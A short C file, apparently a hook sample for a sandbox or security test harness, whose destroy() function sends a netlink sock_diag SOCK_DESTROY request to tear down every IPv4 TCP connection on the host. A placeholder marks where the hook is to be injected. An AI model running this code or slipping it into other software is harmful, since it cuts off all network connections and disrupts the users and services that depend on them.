/* about: asks the kernel by sock_diag to destroy every connection that there is
 * time: others
 * threat: network
 * score: up to right
 */
#include <linux/inet_diag.h>
#include <linux/netlink.h>
#include <linux/sock_diag.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>
static void destroy(void)
{
    struct { struct nlmsghdr head; struct inet_diag_req_v2 what; } ask;
    int kernel = socket(AF_NETLINK, SOCK_RAW, NETLINK_SOCK_DIAG);
    memset(&ask, 0, sizeof ask);
    ask.head = (struct nlmsghdr){.nlmsg_len = sizeof ask, .nlmsg_type = 21, .nlmsg_flags = NLM_F_REQUEST | NLM_F_ACK};
    ask.what.sdiag_family = 2;
    ask.what.sdiag_protocol = 6;
    ask.what.idiag_states = ~0u;
    send(kernel, &ask, sizeof ask, 0);
    close(kernel);
}
#define HOOK destroy()
@HOOKED@
